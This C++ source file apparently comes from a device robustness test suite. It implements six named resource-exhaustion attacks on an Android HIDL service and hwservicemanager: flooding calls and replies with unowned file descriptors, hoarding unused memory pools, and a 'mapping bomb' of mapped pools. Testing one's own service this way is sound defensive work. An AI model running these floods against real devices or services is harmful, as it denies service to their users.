// SPDX-License-Identifier: Apache-2.0
//
// Attacks on a process's table of descriptors.

#include <sys/eventfd.h>
#include <unistd.h>

#include <array>
#include <cstdint>
#include <cstdio>
#include <memory>
#include <numeric>
#include <string>
#include <vector>

#include "tests/device/attacker/attack.h"
#include "tests/device/attacker/client.h"
#include "tests/device/attacker/prepared_client.h"

namespace halyard::attacker {

namespace {

using hal::hidl::HidlString;
using hal::hidl::HidlVec;
using hal::hidl::base::v1_0::IBase;
using wire::IDevice;
using Manager = hal::hidl::manager::v1_2::IServiceManager;
using OldManager = hal::hidl::manager::v1_1::IServiceManager;

// As many as libhidl's own kernel objects in one parcel may be at a time.
constexpr size_t kDescriptors = 254;
constexpr size_t kUnusedPools = 60;
constexpr uint32_t kUnknownCode = 4711;

void addDescriptors(RawParcel& parcel, int fd, size_t count = kDescriptors) {
    for (size_t i = 0; i < count; ++i) {
        parcel.descriptor(fd);
    }
}

// Calls that carry descriptors which belong to no argument. `against` says where and how.
Status floodWithDescriptors(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
                             Client::connect(settings.instance));
    const int fd = eventfd(0, EFD_CLOEXEC);
    const bool manager = settings.against.starts_with("manager");
    const bool refused = settings.against.ends_with("refused");
    const bool unknown = settings.against.ends_with("unknown");
    const bool oneway = settings.against.ends_with("oneway");
    const uint32_t target = manager ? kManager : client->device();
    const uint32_t code = unknown   ? kUnknownCode
                          : manager ? static_cast<uint32_t>(Manager::list)
                                    : static_cast<uint32_t>(IDevice::getStatus);
    Tally answered;
    for (int call = 0; call < settings.clients; ++call) {
        RawParcel parcel;
        if (refused) {
            parcel.token("nobody@1.0::INothing");
        } else if (manager) {
            parcel.token(kManager10);
        } else {
            deviceToken(parcel, IDevice::getStatus);
        }
        addDescriptors(parcel, fd);
        answered.add(oneway ? client->link().callOneway(target, code, parcel).status()
                            : client->link().call(target, code, parcel).status());
    }
    printf("%d calls with %zu descriptors each, %d answered; the last: %s\n", settings.clients,
           kDescriptors, answered.taken, answered.last.c_str());
    return {};
}

// hwservicemanager asks a new service for its chain; the reply brings descriptors.
Status floodInReplies(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open());
    const int fd = eventfd(0, EFD_CLOEXEC);
    int asked = 0;
    for (int i = 0; i < settings.clients; ++i) {
        const uint64_t object =
                link->addObject([fd, &asked](const Received& /*call*/, RawParcel& reply) {
                    ++asked;
                    reply.int32(0);
                    addDescriptors(reply, fd);
                    return true;
                });
        RawParcel parcel;
        parcel.token(kManager10);
        parcel.string("flood" + std::to_string(i));
        parcel.ownObject(object);
        // The call that comes in reaches this thread while it waits for the reply.
        static_cast<void>(link->call(kManager, OldManager::add, parcel));
        // Or another, where the manager answers first.
        link->serveUntil([&] { return asked > i; }, std::chrono::milliseconds(500));
    }
    printf("%d replies with %zu descriptors each\n", asked, kDescriptors);
    return {};
}

// Descriptors in arrays, which the kernel closes with the buffer, in calls that are served and not.
Status floodWithArrays(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
                             Client::connect(settings.instance));
    HALYARD_ASSIGN_OR_RETURN(const Pool file, Pool::make(0));
    const std::vector<int> many(kDescriptors, file.fd);
    for (int call = 0; call < settings.clients; ++call) {
        RawParcel debug;
        deviceToken(debug, IBase::debug);
        debug.handle(many);
        debug.value(HidlVec<HidlString>());
        static_cast<void>(client->link().call(client->device(), IBase::debug, debug));
        RawParcel status;
        deviceToken(status, IDevice::getStatus);
        status.handle(many);
        static_cast<void>(client->link().call(client->device(), IDevice::getStatus, status));
        RawParcel unknown;
        deviceToken(unknown, IDevice::getStatus);
        unknown.handle(many);
        static_cast<void>(client->link().call(client->device(), kUnknownCode, unknown));
    }
    printf("%d calls with an array of %zu descriptors each\n", 3 * settings.clients, kDescriptors);
    return {};
}

Result<uint32_t> hoard(Client& client, const Pool& pool, size_t pools) {
    ModelBuilder model;
    addModel(model, 16);
    for (size_t i = 0; i < pools; ++i) {
        model.pool(pool);
    }
    return client.prepare(model.finish());
}

// Models that keep pools which no operand lies in.
Status hoardPools(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
                             Client::connect(settings.instance));
    HALYARD_ASSIGN_OR_RETURN(const Pool pool, Pool::make(4096));
    Tally held;
    // Fewer pools where there is no room for more, to the last descriptor.
    for (size_t pools = kUnusedPools; pools > 0 && held.taken < settings.clients;) {
        const Result<uint32_t> model = hoard(*client, pool, pools);
        held.add(model.status());
        pools /= model.ok() ? 1 : 2;
    }
    printf("holds %d models of up to %zu unused pools; the last: %s\n", held.taken, kUnusedPools,
           held.last.c_str());
    hold(client->link(), settings);
    return {};
}

// Requests that wait behind endless ones, with pools that they do not use.
Status hoardRequests(const Settings& settings) {
    constexpr int kRunning = 16;
    HALYARD_ASSIGN_OR_RETURN(const PreparedClient endless,
                             PreparedClient::connectEndless(settings));
    const RequestBuilder heavy(endless.pool, 4, 4, std::vector<Pool>(kUnusedPools, endless.pool));
    for (int i = 0; i < kRunning; ++i) {
        static_cast<void>(endless.launch(kLongest));
    }
    Tally queued;
    for (int i = 0; i < settings.clients; ++i) {
        queued.add(endless.client->launch(endless.model, heavy.request(),
                                          std::make_shared<Notified>(), kLongest));
    }
    printf("%d requests of %zu pools each behind %d others; the last: %s\n", queued.taken,
           kUnusedPools, kRunning, queued.last.c_str());
    hold(endless.client->link(), settings);
    return {};
}

// Thousands of mappings: models with as many pools as a parcel takes, all of them used.
Status mappingBomb(const Settings& settings) {
    constexpr uint32_t kPools = 200;
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
                             Client::connect(settings.instance));
    HALYARD_ASSIGN_OR_RETURN(const Pool pool, Pool::make(4096));
    // Of constants that are equal the engine would keep one.
    std::array<uint32_t, 1024> numbers = {};
    std::iota(numbers.begin(), numbers.end(), 0U);
    if (pwrite(pool.fd, numbers.data(), sizeof(numbers), 0) != ssize_t{sizeof(numbers)}) {
        return internalError("the pool can't be written to");
    }
    Tally held;
    for (int i = 0; i < settings.clients; ++i) {
        ModelBuilder model;
        uint32_t from = model.input({1, 16});
        const uint32_t none = model.scalar(0);
        for (uint32_t p = 0; p < kPools; ++p) {
            model.pool(pool);
            const uint32_t constant = model.inPool({1, 16}, p, p * sizeof(uint32_t));
            const uint32_t to = p + 1 == kPools ? model.output({1, 16}) : model.tensor({1, 16});
            model.operation(OperationType::ADD, {from, constant, none}, {to});
            from = to;
        }
        held.add(client->prepare(model.finish()).status());
    }
    printf("holds %d models of %u mapped pools; the last: %s\n", held.taken, kPools,
           held.last.c_str());
    hold(client->link(), settings);
    return {};
}

constexpr std::array<NamedAttack, 6> kDescriptorAttacks = {{
        {"fd-flood", floodWithDescriptors,
         "calls with descriptors that belong to nothing; --against [manager-][refused|unknown|"
         "oneway]"},
        {"fd-flood-reply", floodInReplies, "the same in replies to hwservicemanager"},
        {"fda-flood", floodWithArrays, "calls with arrays of descriptors"},
        {"pool-hoarder", hoardPools, "models that keep pools which they do not use"},
        {"request-hoarder", hoardRequests, "waiting requests that keep pools"},
        {"mapping-bomb", mappingBomb, "models that use hundreds of pools each"},
}};

}  // namespace

std::span<const NamedAttack> descriptorAttacks() {
    return kDescriptorAttacks;
}

}  // namespace halyard::attacker
